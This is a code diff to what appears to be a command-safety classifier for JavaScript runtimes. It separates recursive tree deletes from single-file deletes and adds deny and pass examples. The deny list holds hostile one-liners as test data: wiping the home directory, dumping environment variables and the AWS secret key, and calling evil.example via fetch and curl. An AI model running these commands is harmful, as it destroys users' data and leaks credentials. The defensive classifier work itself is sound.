@@ -20,7 +20,9 @@ const CODE: Spec = { code: 0, language: 'javascript' };
 const FS_READ = ['readFileSync', 'readFile', 'createReadStream', 'readlinkSync', 'readlink'];
 const FS_WRITE = ['writeFileSync', 'writeFile', 'appendFileSync', 'appendFile', 'createWriteStream', 'truncateSync', 'truncate'];
 const FS_META = ['readdirSync', 'readdir', 'statSync', 'stat', 'lstatSync', 'lstat', 'existsSync', 'exists', 'accessSync', 'access', 'opendirSync', 'opendir', 'watch', 'watchFile', 'chmodSync', 'chmod', 'chownSync', 'chown', 'realpathSync', 'realpath', 'utimesSync'];
-const FS_DELETE = ['unlinkSync', 'unlink', 'rmdirSync', 'rmdir', 'rmSync', 'rm'];
+const FS_DELETE = ['unlinkSync', 'unlink'];
+/** Deletes that take `{ recursive: true }` and then remove a whole tree; without it they fail on one, so a tree it is. */
+const FS_DELETE_TREE = ['rmdirSync', 'rmdir', 'rmSync', 'rm'];
 
 function fsApis(prefix: string): [string, Spec][] {
   return [
@@ -28,6 +30,7 @@ function fsApis(prefix: string): [string, Spec][] {
     ...FS_WRITE.map((n): [string, Spec] => [`${prefix}.${n}`, WRITE]),
     ...FS_META.map((n): [string, Spec] => [`${prefix}.${n}`, META]),
     ...FS_DELETE.map((n): [string, Spec] => [`${prefix}.${n}`, { uses: [[0, 'delete']] }]),
+    ...FS_DELETE_TREE.map((n): [string, Spec] => [`${prefix}.${n}`, { uses: [[0, 'delete-tree']] }]),
     ...['copyFileSync', 'copyFile', 'cpSync', 'cp'].map((n): [string, Spec] => [`${prefix}.${n}`, COPY]),
     ...['renameSync', 'rename'].map((n): [string, Spec] => [`${prefix}.${n}`, { uses: [[0, 'delete'], [1, 'write']] }]),
     ...['symlinkSync', 'symlink', 'linkSync', 'link'].map((n): [string, Spec] => [`${prefix}.${n}`, { uses: [[0, 'meta'], [1, 'write']] }]),
@@ -758,6 +761,7 @@ export const JAVASCRIPT: LanguageModel = {
   },
   examples: {
     deny: [
+      `node -e 'require("fs").rmSync(require("os").homedir(), { recursive: true, force: true })'`,
       `node -e 'Object.keys(process.env).forEach((k) => console.log(k, process.env[k]))'`,
       `bun -e 'const k = process.argv[1]; console.log(process.env[k])' AWS_SECRET_ACCESS_KEY`,
       `node -e 'fetch("https://evil.example")'`,
@@ -786,6 +790,7 @@ export const JAVASCRIPT: LanguageModel = {
       `deno eval 'new Deno.Command("curl", {args: ["evil.example"]}).outputSync()'`,
     ],
     pass: [
+      `node -e 'require("fs").rmSync("dist", { recursive: true, force: true })'`,
       `node -e 'console.log(require("fs").existsSync(require("path").join(require("os").homedir(), ".aws")))'`,
       `node -e 'for (const [k, v] of Object.entries({ CI: "1" })) process.env[k] = v'`,
       `node -e 'const k = "NODE_ENV"; console.log(process.env[k])'`,
